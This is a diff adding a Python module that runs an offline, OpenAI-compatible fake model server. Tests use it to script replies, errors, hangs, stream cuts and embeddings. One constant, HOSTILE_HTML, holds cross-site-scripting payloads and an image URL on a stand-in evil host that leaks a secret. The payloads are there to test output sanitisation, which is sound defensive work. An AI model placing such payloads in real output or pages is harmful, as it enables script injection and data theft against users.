@@ -1,0 +1,466 @@
+"""The offline, OpenAI-compatible model server: the dev default and the test double.
+
+It speaks just enough of the OpenAI HTTP API (`/v1/models`, `/v1/chat/completions` plain and
+streamed, `/v1/embeddings`) that the real `openai` SDK cannot tell it from a provider. Replies are
+deterministic functions of the prompt, and markers in the last user message script the behaviour a
+test needs (`[[reply: Hi]]`, `[[error: 429 retry_after=2]]`, `[[cut_after: 3]]`, ...; all listed in
+docs/devmodel.md). Everything is pure asyncio so that one process holds hundreds of slow streams,
+which is what the benchmarks need to model a real provider's latency.
+
+It deliberately imports nothing from Django: tests run it in a thread, e2e and `make dev` run it as
+its own process.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import base64
+import hashlib
+import json
+import logging
+import math
+import re
+import struct
+import time
+import uuid
+from collections.abc import AsyncIterator
+from dataclasses import dataclass, field
+from typing import Any
+
+from bpe_openai import get_encoding
+from starlette.applications import Starlette
+from starlette.requests import Request
+from starlette.responses import JSONResponse, Response, StreamingResponse
+from starlette.routing import Route
+
+MODELS = ["keel-dev-small", "keel-dev-large"]
+EMBEDDING_DIMENSIONS = 256
+ENCODING = get_encoding("o200k_base")
+MARKER_RE = re.compile(r"\[\[\s*([a-z_]+)\s*(?::\s*(.*?))?\s*\]\]", re.DOTALL)
+HOSTILE_HTML = (
+    "Here is the *formatted* answer you asked for.\n\n"
+    "<script>alert(1)</script><img src=https://evil.example/x onerror=alert(1)> "
+    '<a href="javascript:alert(1)">x</a> <div hx-get="/evil">click me</div>\n\n'
+    "![tracking pixel](https://evil.example/pixel.png?leak=secret)\n\n"
+    "- a list item with **bold** text\n- and [a link](javascript:alert(2))\n"
+)
+LOREM_TEXT = (
+    "the model considered your request carefully and drafted a concise answer that covers the "
+    "main points first then adds detail where it helps a reader decide what to do next while "
+    "keeping the tone plain direct and friendly so that nothing important is buried under "
+    "qualifications or filler and every sentence earns its place in the reply"
+)
+LOREM = LOREM_TEXT.split(" ")
+
+
+class StreamCut(Exception):  # noqa: N818 (a deliberate event, not a fault)
+    """Raised inside a streaming body to drop the connection abruptly (the `cut_after` marker)."""
+
+
+class _DropStreamCutTracebacks(logging.Filter):
+    # uvicorn logs any exception escaping the app; a scripted cut is expected, not an error.
+    def filter(self, record: logging.LogRecord) -> bool:
+        exc = record.exc_info[1] if record.exc_info else None
+        return not isinstance(exc, StreamCut)
+
+
+logging.getLogger("uvicorn.error").addFilter(_DropStreamCutTracebacks())
+
+
+@dataclass
+class ServerConfig:
+    ttft_ms: int = 0
+    token_delay_ms: int = 0
+    # fail_times counters: marker key -> failures served so far. In memory on purpose: one
+    # server process per test session or dev stack.
+    failures: dict[str, int] = field(default_factory=dict)
+
+
+@dataclass
+class Script:
+    """What the markers in the last user message asked for."""
+
+    reply: str | None = None
+    tokens: int | None = None
+    delay_ms: int | None = None
+    ttft_ms: int | None = None
+    error: tuple[int, dict[str, str]] | None = None
+    error_after: int | None = None
+    cut_after: int | None = None
+    cut_clean: bool = False
+    hang: bool = False
+    hostile: bool = False
+    expects: list[str] = field(default_factory=list)
+    fail_times: tuple[int, dict[str, str]] | None = None
+    cached: int = 0
+
+
+def _options(text: str) -> tuple[list[str], dict[str, str]]:
+    """Split `503 retry_after=2 key=abc` into positional words and key=value options."""
+    words: list[str] = []
+    options: dict[str, str] = {}
+    for part in text.split():
+        if "=" in part:
+            key, _, value = part.partition("=")
+            options[key] = value
+        else:
+            words.append(part)
+    return words, options
+
+
+def parse_script(text: str) -> Script:
+    script = Script()
+    for match in MARKER_RE.finditer(text):
+        name, arg = match.group(1), (match.group(2) or "").strip()
+        words, options = _options(arg)
+        if name == "reply":
+            script.reply = arg
+        elif name == "tokens":
+            script.tokens = int(arg)
+        elif name == "delay_ms":
+            script.delay_ms = int(arg)
+        elif name == "ttft_ms":
+            script.ttft_ms = int(arg)
+        elif name == "error":
+            script.error = (int(words[0]) if words else 500, options)
+        elif name == "error_after":
+            script.error_after = int(words[0])
+        elif name == "cut_after":
+            script.cut_after = int(words[0])
+            script.cut_clean = "clean" in words
+        elif name == "hang":
+            script.hang = True
+        elif name == "hostile":
+            script.hostile = True
+        elif name == "expect":
+            script.expects.append(arg)
+        elif name == "fail_times":
+            script.fail_times = (int(words[0]) if words else 1, options)
+        elif name == "cached":
+            script.cached = int(arg)
+    return script
+
+
+def strip_markers(text: str) -> str:
+    return MARKER_RE.sub("", text).strip()
+
+
+def _content_text(content: Any) -> str:
+    # Content is a string, or a list of parts ({"type": "text", "text": ...}) in newer clients.
+    if isinstance(content, str):
+        return content
+    if isinstance(content, list):
+        return "\n".join(str(part.get("text", "")) for part in content if isinstance(part, dict))
+    return ""
+
+
+def count_prompt_tokens(messages: list[dict[str, Any]]) -> int:
+    # OpenAI's documented accounting: ~3 tokens of framing per message, 3 to prime the reply.
+    total = 3
+    for message in messages:
+        total += 3 + len(ENCODING.encode_ordinary(_content_text(message.get("content"))))
+        total += len(ENCODING.encode_ordinary(str(message.get("role", ""))))
+    return total
+
+
+def _lorem(seed: str, words: int) -> str:
+    digest = hashlib.sha256(seed.encode()).digest()
+    out: list[str] = []
+    for i in range(words):
+        out.append(LOREM[(digest[i % len(digest)] + i * 7) % len(LOREM)])
+    sentence = " ".join(out)
+    return sentence[:1].upper() + sentence[1:] + "."
+
+
+def default_reply(last_user: str) -> str:
+    """A deterministic, model-looking reply: an echo of the question, then a fixed lorem."""
+    words = strip_markers(last_user).split()
+    summary = " ".join(words[:24]) + (" …" if len(words) > 24 else "")
+    return f"Echo: {summary}\n\n{_lorem(last_user, 40)}" if summary else _lorem(last_user, 40)
+
+
+def build_reply(script: Script, last_user: str) -> str:
+    if script.reply is not None:
+        text = script.reply
+    elif script.tokens is not None:
+        # Exactly N tokens: grow the lorem until it is long enough, then cut at a token boundary.
+        words = max(script.tokens, 1)
+        text = _lorem(last_user, words)
+        while len(ENCODING.encode_ordinary(text)) < script.tokens:
+            words *= 2
+            text = _lorem(last_user, words)
+        text = ENCODING.decode(ENCODING.encode_ordinary(text)[: script.tokens])
+    else:
+        text = default_reply(last_user)
+    if script.hostile:
+        text = HOSTILE_HTML + "\n" + text
+    return text
+
+
+def token_pieces(text: str) -> list[str]:
+    """Split text into per-token strings, merging tokens that only make sense together (UTF-8)."""
+    pieces: list[str] = []
+    pending = b""
+    for token in ENCODING.encode_ordinary(text):
+        pending += ENCODING.decode_bytes([token])
+        try:
+            pieces.append(pending.decode("utf-8"))
+        except UnicodeDecodeError:
+            continue
+        pending = b""
+    if pending:
+        pieces.append(pending.decode("utf-8", errors="replace"))
+    return pieces
+
+
+def error_response(status: int, message: str, retry_after: str | None = None) -> JSONResponse:
+    kinds = {
+        400: ("invalid_request_error", None),
+        401: ("authentication_error", "invalid_api_key"),
+        404: ("invalid_request_error", "model_not_found"),
+        429: ("rate_limit_error", "rate_limit_exceeded"),
+    }
+    kind, code = kinds.get(
+        status, ("server_error" if status >= 500 else "invalid_request_error", None)
+    )
+    headers = {"x-request-id": _request_id()}
+    if retry_after is not None:
+        headers["retry-after"] = retry_after
+    body = {"error": {"message": message, "type": kind, "param": None, "code": code}}
+    return JSONResponse(body, status_code=status, headers=headers)
+
+
+def _request_id() -> str:
+    return f"req_{uuid.uuid4().hex}"
+
+
+async def _wait_for_disconnect(request: Request) -> None:
+    # `[[hang]]` on a plain request: answer nothing until the client gives up.
+    while not await request.is_disconnected():
+        await asyncio.sleep(0.1)
+
+
+async def list_models(request: Request) -> Response:
+    data = [{"id": name, "object": "model", "created": 0, "owned_by": "keel"} for name in MODELS]
+    return JSONResponse({"object": "list", "data": data}, headers={"x-request-id": _request_id()})
+
+
+async def chat_completions(request: Request) -> Response:
+    config: ServerConfig = request.app.state.config
+    try:
+        body = await request.json()
+    except ValueError:
+        return error_response(400, "The request body is not valid JSON.")
+    messages = body.get("messages")
+    if not isinstance(messages, list) or not messages:
+        return error_response(400, "'messages' must be a non-empty list.")
+    model = str(body.get("model") or MODELS[0])
+    user_messages = [m for m in messages if isinstance(m, dict) and m.get("role") == "user"]
+    last_user = _content_text(user_messages[-1].get("content")) if user_messages else ""
+    try:
+        script = parse_script(last_user)
+    except (ValueError, IndexError) as exc:
+        return error_response(400, f"Bad devmodel marker: {exc}")
+
+    prompt = "\n".join(strip_markers(_content_text(m.get("content"))) for m in messages)
+    for expected in script.expects:
+        if expected not in prompt:
+            return error_response(
+                400, f"devmodel expectation failed: the prompt does not contain {expected!r}."
+            )
+
+    if script.error is not None:
+        status, options = script.error
+        only_model = options.get("model")
+        if only_model is None or only_model == model:
+            return error_response(
+                status,
+                options.get("message", f"Scripted error {status} from the dev model server."),
+                retry_after=options.get("retry_after"),
+            )
+    if script.fail_times is not None:
+        times, options = script.fail_times
+        key = options.get("key", last_user)
+        served = config.failures.get(key, 0)
+        if served < times:
+            config.failures[key] = served + 1
+            status = int(options.get("status", "503"))
+            return error_response(
+                status,
+                f"Scripted failure {served + 1} of {times} from the dev model server.",
+                retry_after=options.get("retry_after"),
+            )
+
+    if script.hang and not body.get("stream"):
+        await _wait_for_disconnect(request)
+        return Response(status_code=499)
+
+    max_tokens = body.get("max_completion_tokens") or body.get("max_tokens")
+    pieces = token_pieces(build_reply(script, last_user))
+    finish_reason = "stop"
+    if isinstance(max_tokens, int) and len(pieces) > max_tokens:
+        # Pieces can merge multi-byte tokens, so this may cut a hair short: fine for a double.
+        pieces = pieces[:max_tokens]
+        finish_reason = "length"
+    completion_tokens = len(ENCODING.encode_ordinary("".join(pieces)))
+    prompt_tokens = count_prompt_tokens(messages)
+    usage = {
+        "prompt_tokens": prompt_tokens,
+        "completion_tokens": completion_tokens,
+        "total_tokens": prompt_tokens + completion_tokens,
+        "prompt_tokens_details": {
+            "cached_tokens": min(script.cached, prompt_tokens),
+            "audio_tokens": 0,
+        },
+        "completion_tokens_details": {"reasoning_tokens": 0, "audio_tokens": 0},
+    }
+    ttft_ms = script.ttft_ms if script.ttft_ms is not None else config.ttft_ms
+    delay_ms = script.delay_ms if script.delay_ms is not None else config.token_delay_ms
+    completion_id = f"chatcmpl-{uuid.uuid4().hex[:24]}"
+    created = int(time.time())
+    headers = {"x-request-id": _request_id()}
+
+    if not body.get("stream"):
+        if script.error_after is not None:
+            return error_response(500, "The dev model server failed mid-generation.")
+        await asyncio.sleep((ttft_ms + delay_ms * len(pieces)) / 1000)
+        payload = {
+            "id": completion_id,
+            "object": "chat.completion",
+            "created": created,
+            "model": model,
+            "system_fingerprint": "fp_keeldev",
+            "choices": [
+                {
+                    "index": 0,
+                    "message": {"role": "assistant", "content": "".join(pieces), "refusal": None},
+                    "logprobs": None,
+                    "finish_reason": finish_reason,
+                }
+            ],
+            "usage": usage,
+        }
+        return JSONResponse(payload, headers=headers)
+
+    include_usage = bool((body.get("stream_options") or {}).get("include_usage"))
+
+    def chunk(delta: dict[str, Any], finish: str | None) -> str:
+        data = {
+            "id": completion_id,
+            "object": "chat.completion.chunk",
+            "created": created,
+            "model": model,
+            "system_fingerprint": "fp_keeldev",
+            "choices": [{"index": 0, "delta": delta, "logprobs": None, "finish_reason": finish}],
+            "usage": None,
+        }
+        return f"data: {json.dumps(data, separators=(',', ':'))}\n\n"
+
+    async def events() -> AsyncIterator[str]:
+        await asyncio.sleep(ttft_ms / 1000)
+        if script.hang:
+            # The headers went out; now nothing more, until the client's read timeout fires.
+            await asyncio.sleep(3600)
+        yield chunk({"role": "assistant", "content": "", "refusal": None}, None)
+        for sent, piece in enumerate(pieces):
+            if script.cut_after is not None and sent >= script.cut_after:
+                if script.cut_clean:
+                    return
+                raise StreamCut
+            if script.error_after is not None and sent >= script.error_after:
+                error = {
+                    "error": {
+                        "message": "The dev model server failed mid-stream.",
+                        "type": "server_error",
+                        "param": None,
+                        "code": None,
+                    }
+                }
+                yield f"data: {json.dumps(error)}\n\n"
+                return
+            if delay_ms and sent:
+                await asyncio.sleep(delay_ms / 1000)
+            yield chunk({"content": piece}, None)
+        if script.cut_after is not None and script.cut_after >= len(pieces):
+            if script.cut_clean:
+                return
+            raise StreamCut
+        yield chunk({}, finish_reason)
+        if include_usage:
+            data = {
+                "id": completion_id,
+                "object": "chat.completion.chunk",
+                "created": created,
+                "model": model,
+                "system_fingerprint": "fp_keeldev",
+                "choices": [],
+                "usage": usage,
+            }
+            yield f"data: {json.dumps(data, separators=(',', ':'))}\n\n"
+        yield "data: [DONE]\n\n"
+
+    headers["cache-control"] = "no-cache"
+    return StreamingResponse(events(), media_type="text/event-stream", headers=headers)
+
+
+def embed_text(text: str, dimensions: int = EMBEDDING_DIMENSIONS) -> list[float]:
+    """Hashed bag of words, L2-normalised: texts sharing words get a high cosine similarity."""
+    vector = [0.0] * dimensions
+    for word in re.findall(r"\w+", text.lower()):
+        digest = hashlib.blake2b(word.encode(), digest_size=8).digest()
+        index = int.from_bytes(digest[:4], "little") % dimensions
+        vector[index] += 1.0 if digest[4] & 1 else -1.0
+    norm = math.sqrt(sum(v * v for v in vector))
+    if norm == 0:
+        # An empty text still needs a unit vector; pick a fixed axis.
+        vector[0] = 1.0
+        return vector
+    return [v / norm for v in vector]
+
+
+async def embeddings(request: Request) -> Response:
+    try:
+        body = await request.json()
+    except ValueError:
+        return error_response(400, "The request body is not valid JSON.")
+    raw = body.get("input")
+    if isinstance(raw, str):
+        inputs = [raw]
+    elif isinstance(raw, list) and raw and all(isinstance(item, int) for item in raw):
+        inputs = [ENCODING.decode(raw)]
+    elif isinstance(raw, list) and raw:
+        inputs = [item if isinstance(item, str) else ENCODING.decode(item) for item in raw]
+    else:
+        return error_response(400, "'input' must be a string or a non-empty list.")
+    dimensions = int(body.get("dimensions") or EMBEDDING_DIMENSIONS)
+    if not 1 <= dimensions <= 4096:
+        return error_response(400, "'dimensions' must be between 1 and 4096.")
+    as_base64 = body.get("encoding_format") == "base64"
+    data: list[dict[str, Any]] = []
+    tokens = 0
+    for index, text in enumerate(inputs):
+        vector = embed_text(text, dimensions)
+        tokens += len(ENCODING.encode_ordinary(text))
+        encoded: Any = vector
+        if as_base64:
+            encoded = base64.b64encode(struct.pack(f"<{dimensions}f", *vector)).decode()
+        data.append({"object": "embedding", "index": index, "embedding": encoded})
+    payload = {
+        "object": "list",
+        "data": data,
+        "model": str(body.get("model") or "keel-dev-embed"),
+        "usage": {"prompt_tokens": tokens, "total_tokens": tokens},
+    }
+    return JSONResponse(payload, headers={"x-request-id": _request_id()})
+
+
+def create_app(*, ttft_ms: int = 0, token_delay_ms: int = 0) -> Starlette:
+    app = Starlette(
+        routes=[
+            Route("/v1/models", list_models, methods=["GET"]),
+            Route("/v1/chat/completions", chat_completions, methods=["POST"]),
+            Route("/v1/embeddings", embeddings, methods=["POST"]),
+        ]
+    )
+    app.state.config = ServerConfig(ttft_ms=ttft_ms, token_delay_ms=token_delay_ms)
+    return app
